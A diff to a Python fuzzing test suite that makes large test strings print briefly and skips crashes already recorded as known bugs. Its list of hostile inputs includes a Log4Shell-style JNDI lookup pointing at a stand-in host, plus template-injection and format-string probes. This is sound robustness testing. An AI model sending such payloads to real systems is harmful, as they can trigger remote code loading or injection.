@@ -70,6 +70,14 @@ FAST = RetryPolicy(attempts=6, initial=0.01, maximum=0.05)
 MISSING = object()  # a mutation that removes the key
 HONEYPOT = "@@HONEYPOT@@"  # replaced by the honeypot server's URL when served
 
+
+class Long(str):
+    """A long text that prints short: hypothesis shows failing examples, and 1 MB is no help."""
+
+    def __repr__(self) -> str:
+        return f"Long({self[:20]!r}… {len(self):,} characters)"
+
+
 #: texts no app should ever send, and that every app eventually does
 HOSTILE_TEXTS = (
     "",
@@ -85,8 +93,8 @@ HOSTILE_TEXTS = (
     "🚧🕳️🚗💥" * 50,
     "${jndi:ldap://evil.example/a}",
     "{{7*7}} %s %n %x",
-    "A" * 1_000_000,
-    "Jalan rusak. " * 80_000,  # a 1 MB letter of real words
+    Long("A" * 1_000_000),
+    Long("Jalan rusak. " * 80_000),  # a 1 MB letter of real words
 )
 FUTURE_AND_ANCIENT = (
     "9999-12-31T23:59:59+07:00",
@@ -494,7 +502,7 @@ KNOWN_BUGS = (
     KnownBug(
         ("tanjak",), TypeError, "unhashable", "test_a_tanjak_status_that_is_a_list_is_quarantined"
     ),
-    KnownBug(
+    KnownBug(  # in the normalizers, and in Sambat's client reading tgl_update for its keyset
         ("tanjak", "sambat", "kota-contoh"),
         OverflowError,
         "out of range",
@@ -701,7 +709,12 @@ def run_feed(
         config = tmp / "config.toml"
         config.write_text(region.config(tmp / "bridge.db"), encoding="utf-8")
 
-        report = one_pass(config, app.name)
+        try:
+            report = one_pass(config, app.name)
+        except Exception as exc:  # a crash already pinned below: step over it, hunt on
+            if known_bug(app.name, exc) is None:
+                raise
+            assume(False)
         assert report.sources[app.name].ok, report.sources[app.name].error
 
         store = Store(tmp / "bridge.db")
